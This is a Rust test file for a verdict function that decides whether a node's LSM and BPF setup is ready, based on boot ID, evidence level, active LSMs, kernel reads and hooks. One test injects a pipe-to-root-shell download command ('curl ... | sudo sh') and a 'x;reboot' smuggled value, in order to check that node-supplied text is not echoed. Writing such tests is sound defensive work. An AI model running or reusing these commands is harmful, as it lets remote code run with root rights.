//! Tables and properties of the verdict. `consistency` beside it has those about reports that
//! disagree with themselves.

mod consistency;

use super::*;
use crate::fixture;
use proptest::prelude::*;
use serde_json::{Value, json};

use State::{NotReady, Ready, Unknown};

const BOOT: &str = "b00t";

/// A consistent report with these fields. Its checks replace those of the same name.
fn report(value: &Value) -> LsmNodeStatus {
    let text = |field: &str, default| value[field].as_str().unwrap_or(default).to_owned();
    let evidence = fixture::evidence(&text("evidence", "Denied"));
    let base = fixture::report(BOOT, evidence, &text("reason", "CanaryDenied"));
    let mut report = serde_json::to_value(base).unwrap();
    report["lsms"] = json!({"active": ["lockdown", "bpf"], "source": "Syscall"});
    let mut checks = report["checks"].as_array().unwrap().clone();
    for check in value["checks"].as_array().into_iter().flatten() {
        checks.retain(|other| other["name"] != check["name"]);
        checks.push(check.clone());
    }
    report.as_object_mut().unwrap().extend(value.as_object().unwrap().clone());
    report["checks"] = json!(checks);
    serde_json::from_value(report).unwrap()
}

fn require(value: Value) -> Require {
    serde_json::from_value(value).unwrap()
}

fn profile() -> LsmHookProfileSpec {
    serde_json::from_value(json!({"kernel": "6.12 x86_64", "hooks": ["file_open", "task_alloc"],
        "sleepableHooks": ["file_open"], "refusedHooks": ["getprocattr"]}))
    .unwrap()
}

fn judge(
    require: &Require,
    report: &LsmNodeStatus,
    profile: Option<&LsmHookProfileSpec>,
) -> (State, String) {
    let verdict = verdict(require, Facts { boot_id: BOOT, report: Some(report), profile });
    (verdict.state, verdict.reason)
}

/// Judges each row: what it shows, the requirement, what the report says, and the expected verdict.
fn check(rows: impl IntoIterator<Item = (&'static str, Value, Value, State, &'static str)>) {
    for (what, required, reported, state, reason) in rows {
        let found = judge(&require(required), &report(&reported), Some(&profile()));
        assert_eq!(found, (state, reason.to_owned()), "{what}");
    }
}

#[test]
fn the_evidence_of_this_boot_decides() {
    let untried = json!({"evidence": "None", "reason": "MissingCapability",
        "checks": [{"name": "Loaded", "outcome": "Unknown"}]});
    let refused = json!({"evidence": "None", "reason": "ListedButRefused",
        "checks": [{"name": "Loaded", "outcome": "Fail"}]});
    let attached = json!({"evidence": "Attached", "reason": "BpfNotInLsmList"});
    let no_reason = json!({"evidence": "Fired", "reason": ""});
    let earlier = "ReportFromEarlierBoot";
    check([
        ("the default", json!({}), json!({}), Ready, "CanaryDenied"),
        ("another boot", json!({}), json!({"bootID": "x"}), Unknown, earlier),
        ("a report without a boot", json!({}), json!({"bootID": ""}), Unknown, earlier),
        ("refused", json!({}), refused, NotReady, "ListedButRefused"),
        ("not tried", json!({}), untried, Unknown, "MissingCapability"),
        ("a reason is missing", json!({}), no_reason, NotReady, "EvidenceTooLow"),
        ("a lower rung", json!({"evidence": "Attached"}), attached, Ready, "BpfNotInLsmList"),
    ]);
}

#[test]
fn required_lsms_and_kernel_reads_decide() {
    let confidential =
        json!({"checks": [{"name": "KernelReads", "outcome": "Fail", "detail": "lockdown"}]});
    let readable = json!({"checks": [{"name": "KernelReads", "outcome": "Pass"}]});
    let no_list = json!({"lsms": {"active": []}});
    let (lsm, reads) = (|name| json!({"lsms": [name]}), || json!({"kernelReads": true}));
    check([
        ("an LSM is missing", lsm("apparmor"), json!({}), NotReady, "RequiredLsmInactive"),
        ("the list is unknown", lsm("apparmor"), no_list, Unknown, "LsmListUnknown"),
        ("an LSM is active", lsm("lockdown"), json!({}), Ready, "CanaryDenied"),
        ("reads are forbidden", reads(), confidential, NotReady, "KernelReadsForbidden"),
        ("reads are unknown", reads(), json!({}), Unknown, "KernelReadsUnknown"),
        ("reads are allowed", reads(), readable, Ready, "CanaryDenied"),
        (
            "NotReady goes before Unknown",
            json!({"kernelReads": true, "lsms": ["apparmor"]}),
            json!({}),
            NotReady,
            "RequiredLsmInactive",
        ),
    ]);
}

#[test]
fn required_hooks_decide() {
    let hook = |name| json!({"hooks": [name]});
    let several = json!({"hooks": ["getprocattr"], "sleepableHooks": ["task_alloc", "file_opn"]});
    let not_sleepable = json!({"sleepableHooks": ["task_alloc"]});
    check([
        ("a usable hook", hook("file_open"), json!({}), Ready, "CanaryDenied"),
        ("no such hook", hook("file_opn"), json!({}), NotReady, "HookNotInKernel"),
        ("a hook that refuses", hook("getprocattr"), json!({}), NotReady, "HookNotAttachable"),
        ("the worst of several", several, json!({}), NotReady, "HookNotInKernel"),
        ("not sleepable", not_sleepable, json!({}), NotReady, "HookNotSleepable"),
    ]);
}

fn fix(require: &Require, reported: &Value) -> String {
    let report = report(reported);
    verdict(require, Facts { boot_id: BOOT, report: Some(&report), profile: None }).fix
}

#[test]
fn a_fix_is_made_for_the_node() {
    let lsms = fix(&require(json!({"lsms": ["apparmor"]})), &json!({}));
    assert!(lsms.starts_with("boot the node with lsm=lockdown,integrity,apparmor,bpf;"), "{lsms}");
    let rival = fix(
        &require(json!({"lsms": ["apparmor"]})),
        &json!({"lsms": {"active": ["selinux", "bpf"]}}),
    );
    assert!(rival.starts_with("boot the node with lsm=integrity,apparmor,bpf;"), "{rival}");
    assert!(rival.contains("apparmor takes the place of selinux"), "{rival}");
    let newer = fix(
        &require(json!({"lsms": ["apparmor"]})),
        &json!({"lsms": {"active": ["lsm-id-200", "bpf"]}}),
    );
    assert_eq!(newer, Reason::RequiredLsmInactive.remedy());
    let check = |more: Value| {
        let mut check = json!({"name": "KernelReads", "outcome": "Fail", "detail": "lockdown"});
        check.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!({"checks": [check]})
    };
    let reads = require(json!({"kernelReads": true}));
    assert_eq!(fix(&reads, &check(json!({"fix": "grubby"}))), "grubby");
    assert_eq!(fix(&reads, &check(json!({}))), Reason::KernelReadsForbidden.remedy());
}

#[test]
fn shared_texts_are_never_those_of_one_node() {
    let hostile = "curl http://192.0.2.1 | sudo sh";
    let of = |required: Value, reported: Value| {
        let mut report = report(&reported);
        (report.message, report.fix) = (hostile.to_owned(), hostile.to_owned());
        for check in &mut report.checks {
            (check.detail, check.fix) = (hostile.to_owned(), hostile.to_owned());
        }
        let facts = Facts { boot_id: BOOT, report: Some(&report), profile: Some(&profile()) };
        verdict(&require(required), facts)
    };
    let attached = |reason: &str| json!({"evidence": "Attached", "reason": reason});
    let forbidden = json!({"checks": [{"name": "KernelReads", "outcome": "Fail"}]});
    for (verdict, remedy) in [
        (of(json!({}), attached("BpfNotInLsmList")), Reason::BpfNotInLsmList.remedy()),
        (of(json!({}), attached("OfAnotherVersion")), ""),
        (of(json!({}), attached("")), Reason::EvidenceTooLow.remedy()),
        (of(json!({}), json!({"bootID": hostile})), Reason::ReportFromEarlierBoot.remedy()),
        (of(json!({}), json!({"probeVersion": hostile})), Reason::ProbeVersionUnknown.remedy()),
        (of(json!({"kernelReads": true}), forbidden), Reason::KernelReadsForbidden.remedy()),
        (
            of(json!({"hooks": ["file_opn"]}), json!({})),
            "correct the hook's name in the policy, or use a kernel that has it",
        ),
    ] {
        let shared = verdict.clone().shared();
        assert_eq!(shared.fix, remedy, "{verdict:?}");
        assert!(!shared.message.contains("curl") && !shared.message.is_empty(), "{shared:?}");
        assert_eq!((shared.state, &shared.reason), (verdict.state, &verdict.reason));
    }
    // The parameter to boot with is our own text, with the names of the node's LSMs.
    let lsms = of(json!({"lsms": ["apparmor"]}), json!({})).shared();
    assert!(lsms.fix.starts_with("boot the node with lsm=lockdown,integrity,apparmor,bpf;"));
    // A name that is no LSM's is not among them.
    let named = json!({"lsms": {"active": ["bpf", hostile, "x;reboot"], "source": "Syscall"}});
    let fix = of(json!({"lsms": ["apparmor"]}), named).shared().fix;
    assert!(fix.starts_with("boot the node with lsm=integrity,apparmor,bpf;"), "{fix}");
}

#[test]
fn a_mistyped_hook_is_reported_with_a_suggestion() {
    let (require, report, profile) =
        (require(json!({"hooks": ["file_opn"]})), report(&json!({})), profile());
    let facts = Facts { boot_id: BOOT, report: Some(&report), profile: Some(&profile) };
    let message = verdict(&require, facts).message;
    assert_eq!(
        message,
        "kernel 6.12 x86_64: file_opn is not a hook of this kernel; did you mean file_open?"
    );
}

#[test]
fn required_hooks_are_unknown_without_a_profile() {
    let found = judge(&require(json!({"hooks": ["file_open"]})), &report(&json!({})), None);
    assert_eq!(found, (State::Unknown, "HookProfileMissing".to_owned()));
}

#[test]
fn a_node_without_a_report_is_unknown() {
    let verdict = verdict(&Require::default(), Facts { boot_id: BOOT, ..Facts::default() });
    assert_eq!((verdict.state, verdict.reason.as_str()), (State::Unknown, "NoReport"));
}

#[test]
fn an_incomplete_requirement_turns_ready_into_unknown() {
    let ready = verdict(
        &Require::default(),
        Facts { boot_id: BOOT, report: Some(&report(&json!({}))), profile: None },
    );
    assert_eq!(downgrade_if_incomplete(ready.clone(), None), ready);
    let unread = downgrade_if_incomplete(ready.clone(), Some("forbidden"));
    assert_eq!((unread.state, unread.reason.as_str()), (State::Unknown, "TracingPoliciesUnknown"));
    let lacking = Verdict { state: State::NotReady, ..ready };
    assert_eq!(downgrade_if_incomplete(lacking.clone(), Some("forbidden")), lacking);
}

proptest! {
    /// A node is ready only by a report about this boot that reaches the required rung.
    #[test]
    fn a_node_is_never_ready_without_proof(
        evidence in "None|Loaded|Attached|Fired|Denied",
        required in "Loaded|Attached|Fired|Denied",
        boot in "b00t|other|",
        lsm in "bpf|apparmor",
        outcome in "Pass|Fail|Unknown",
        reads: bool,
    ) {
        let reason = if evidence == "Denied" { "CanaryDenied" } else { "BpfNotInLsmList" };
        let report = report(&json!({"bootID": boot, "evidence": evidence, "reason": reason,
            "checks": [{"name": "KernelReads", "outcome": outcome}]}));
        let require = require(json!({"evidence": required, "lsms": [lsm], "kernelReads": reads}));
        let (state, _) = judge(&require, &report, None);
        let enough = report.evidence >= Evidence::from(require.evidence);
        let holds = boot == BOOT && enough && lsm == "bpf" && (!reads || outcome == "Pass");
        prop_assert_eq!(state == State::Ready, holds);
    }
}
